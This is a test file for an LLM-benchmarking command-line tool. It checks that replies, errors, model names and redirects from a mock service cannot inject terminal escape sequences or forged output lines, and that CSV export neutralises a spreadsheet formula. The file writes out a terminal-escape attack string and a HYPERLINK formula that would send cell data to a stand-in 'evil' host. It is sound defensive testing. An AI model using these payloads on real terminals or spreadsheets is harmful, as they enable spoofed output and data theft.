import { describe, expect, test } from "bun:test";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { type Ended, Workspace } from "./plumb.ts";
import { results } from "./record.ts";
import { delta, finish, usage } from "./scripted-run.ts";
import { type Answer, type Script, ScriptedServer } from "./scripted-server.ts";

/** Clears the screen, sets the title, C1's own CSI, a bell, DEL, text from right to left, a forged line. */
const ATTACK = "\u001b[2J\u001b]0;owned\u0007\u009b31m\u0085\u007f\u202egnp.exe\u2066\r\nplumb: verdict: valid\u2028";
const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028-\u202e\u2066-\u2069]/;

function harmless({ out, err }: Ended): void {
  for (const text of [out, err]) {
    expect(OBEYED.exec(text)?.[0].codePointAt(0)).toBeUndefined();
    expect(text).not.toMatch(/^plumb: verdict: valid/m);
  }
}

const sayIt: Script = (answer) => {
  answer.head();
  answer.event(delta({ content: ATTACK }));
  answer.event({ ...finish(), usage: usage(1, 1).usage });
  answer.event("[DONE]");
  answer.end();
};

/** /v1/models, and the connection test and the load. */
function withModel(load: Script): Script {
  return (answer: Answer) => {
    if (!answer.asked.path.endsWith("/models")) return load(answer);
    answer.whole(200, "application/json", JSON.stringify({ data: [{ id: `evil/m${ATTACK}` }] }));
  };
}

const SHAPES: Record<string, Script> = {
  "a reply": withModel(sayIt),
  "an error in JSON": withModel((answer) =>
    answer.whole(500, "application/json", JSON.stringify({ error: { message: ATTACK } })),
  ),
  "an error page": withModel((answer) => answer.whole(502, "text/html", ATTACK)),
  "an error event": withModel((answer) => {
    answer.head();
    answer.event({ error: { message: ATTACK, type: ATTACK } });
    answer.end();
  }),
  "a content type": withModel((answer) => answer.whole(200, "text/\u009b31m", ATTACK)),
  "a redirect": withModel((answer) => answer.whole(302, "text/plain", "", { location: "http://x/\u009b31m" })),
  "broken JSON": withModel((answer) => {
    answer.head();
    answer.chunk(`data: {"choices": [${ATTACK.replaceAll(/[\r\n]/g, "")}\n\n`);
    answer.end();
  }),
};

const QUESTION = "SELECT output_text, response_messages, error, finish_reason, model FROM result";

describe("nothing that a service sends steers the terminal", () => {
  test.each(Object.keys(SHAPES))("%s", async (name) => {
    using server = new ScriptedServer({ it: SHAPES[name]! });
    using workspace = new Workspace();
    const flags = ["--url", server.url("it"), "--number", "2", "--debug", "--prompt", "x"];
    harmless(await workspace.plumb(["run", ...flags]));
    const ended = await workspace.plumb(["run", ...flags, "--no-test-connection"]);
    harmless(ended);
    const folder = workspace.runs().at(-1)!;
    expect(folder).not.toMatch(OBEYED);
    expect(results(workspace.join(folder))).toHaveLength(2);
    harmless(await workspace.plumb(["report", folder]));
    harmless(await workspace.plumb(["report", folder, "--json"]));
    harmless(await workspace.plumb(["query", folder, QUESTION]));
    const asked = await workspace.plumb(["query", folder, "--json", QUESTION]);
    harmless(asked);
    // Escaped, not changed.
    if (name === "a reply")
      expect(JSON.parse(asked.out)[0]).toMatchObject({ output_text: ATTACK, model: `evil/m${ATTACK}` });
  });

  test("in a file for people: config.json and summary.json", async () => {
    using server = new ScriptedServer({ it: SHAPES["a reply"]! });
    using workspace = new Workspace();
    const { folder } = await workspace.run("--url", server.url("it"), "--number", "1", "--prompt", "x");
    const texts = readdirSync(workspace.join(folder)).filter((file) => file.endsWith(".json"));
    expect(texts).toContain("summary.json");
    for (const file of texts) {
      const text = readFileSync(workspace.join(folder, file), "utf8");
      expect([file, OBEYED.test(text)]).toEqual([file, false]);
      expect(() => JSON.parse(text)).not.toThrow();
    }
  });

  test("through a plugin that logs it", async () => {
    using server = new ScriptedServer({ it: sayIt });
    using workspace = new Workspace();
    writeFileSync(
      workspace.join("chatty.ts"),
      `import { defineApi, log } from "plumb";
      export default defineApi({
        name: "chatty", endpoint: "chat/completions",
        buildRequest: (input, params) => ({ body: { model: params.model, stream: true, messages: [] } }),
        reader: () => ({
          event: ({ data }) => {
            if (data === "[DONE]") return [{ kind: "end" }];
            const said = JSON.parse(data).choices[0].delta.content ?? "";
            log.warn("heard", said); console.log("heard", said);
            return said === "" ? [{ kind: "finish", reason: said + "stop" }] : [{ kind: "text", text: said }];
          },
          body: () => [],
        }),
      });`,
    );
    const flags = ["--url", server.url("it"), "--model", "m", "--number", "1", "--prompt", "x", "--api", "chatty"];
    const ended = await workspace.plumb(["run", ...flags, "--plugins", "chatty.ts"]);
    harmless(ended);
    expect(ended.err).toContain("plumb: chatty: warning: heard \\x1b[2J");
  });
});

test("no formula of a reply runs in a spreadsheet", async () => {
  using server = new ScriptedServer({
    it: (answer) => {
      answer.head();
      answer.event(delta({ content: '=HYPERLINK("http://evil/?"&A1)' }));
      answer.event(finish());
      answer.end();
    },
  });
  using workspace = new Workspace();
  const { folder } = await workspace.run("--url", server.url("it"), "--model", "m", "--number", "1", "--prompt", "x");
  const { out } = await workspace.plumb([
    "query",
    folder,
    "--csv",
    "SELECT output_text, 9007199254740993 AS n FROM result",
  ]);
  expect(out).toBe('output_text,n\r\n"\'=HYPERLINK(""http://evil/?""&A1)",9007199254740993\r\n');
});
